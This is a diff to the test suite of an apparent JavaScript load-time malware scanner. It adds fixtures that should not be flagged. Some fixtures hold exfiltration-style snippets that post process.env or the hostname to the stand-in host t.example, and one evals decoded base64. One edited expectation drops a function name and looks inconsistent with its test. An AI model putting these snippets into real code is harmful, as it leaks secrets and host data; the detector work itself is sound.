@@ -34,6 +34,9 @@ describe('readLoadJavaScript: what a library does when asked is not a finding', 
     ['an object method that posts the environment', "const https = require('https');\nmodule.exports = { flush() { https.request('https://t.example').end(JSON.stringify(process.env)); } };"],
     ['a network import beside host data, no call at load', `${HEAD}const hostname = os.hostname();\nmodule.exports = { hostname };`],
     ['a shell completion script held as text', "export const completion = `# Installation: app completion >> ~/.bashrc\\n_app() { :; }`;"],
+    ['a getter defined through a helper, named like a host-data call, beside a network import', "var http = require('http');\nvar isIP = require('net').isIP;\nvar req = Object.create(http.IncomingMessage.prototype);\ndefineGetter(req, 'hostname', function hostname() { return this.get('Host'); });\ndefineGetter(req, 'ip', function ip() { return proxyaddr(this, os.hostname()); });"],
+    ['the global object found by Function("return this") beside feature detection of XMLHttpRequest', "var g = typeof self !== 'undefined' ? self : Function('return this')();\nvar xhr = typeof XMLHttpRequest !== 'undefined' && 'withCredentials' in new XMLHttpRequest();"],
+    ['a route handler registered at load', "const app = require('express')();\nconst https = require('https');\napp.use('/x', (req, res) => { https.get('https://t.example/?h=' + os.hostname()); });"],
     ['a declared function never called', "function boot() { eval(Buffer.from('eA==', 'base64').toString()); }\nmodule.exports = boot;"],
   ])('%s', (_name, code) => {
     expect(readLoadJavaScript(code)).toEqual([]);
@@ -46,7 +49,7 @@ describe('loadTimeText', () => {
   });
 
   test('braces in strings, templates, regular expressions and comments are not structure', () => {
-    expect(loadTimeText("const r = /[{]/g; const s = '}'; const t = `{`; // }\nfunction f() { x() }")).toBe("const r = /[{]/g; const s = '}'; const t = `{`; \nfunction f() {}");
+    expect(loadTimeText("const r = /[{]/g; const s = '}'; const t = `{`; // }\nfunction f() { x() }")).toBe("const r = /[{]/g; const s = '}'; const t = `{`; \nfunction () {}");
   });
 
   test('brackets that do not balance (a file cut by a cap): null, not read', () => {
